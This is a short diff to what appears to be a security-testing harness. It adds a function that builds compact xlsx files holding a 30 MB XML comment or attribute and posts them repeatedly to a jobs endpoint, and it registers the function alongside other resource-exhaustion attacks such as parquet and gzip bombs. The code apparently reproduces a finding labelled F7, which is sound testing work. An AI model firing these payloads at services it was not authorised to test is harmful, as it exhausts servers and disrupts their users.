@@ -59,6 +59,12 @@ def xlsx_bombs(target: Target) -> None:
     target.repeat(lambda: [target.post(JOBS, bomb, XLSX) for bomb in bombs], threads=4)
 
 
+def xlsx_tags(target: Target) -> None:
+    """F7: xlsx files of 30 kB with a comment or an attribute of 30 MB, which took a processor for minutes each."""
+    bombs = [_xlsx(sheet=b"<!--" + b"-a" * (15 * MIB) + b"-->"), _xlsx(sheet=b'<row r="' + b"9" * (30 * MIB) + b'"/>')]
+    target.repeat(lambda: [target.post(JOBS, bomb, XLSX) for bomb in bombs], threads=4)
+
+
 def many_columns(target: Target) -> None:
     """F11: 500,000 columns in a few kB of gz, and a row of jsonl with 250,000 keys."""
     csv = gzip.compress(b"text," + b"a," * 500_000 + b"\n" + b"b," * 500_000 + b"\n")
@@ -149,6 +155,7 @@ ATTACKS = (
     part_names,
     parquet_bombs,
     xlsx_bombs,
+    xlsx_tags,
     many_columns,
     gzip_uploads,
     followers,
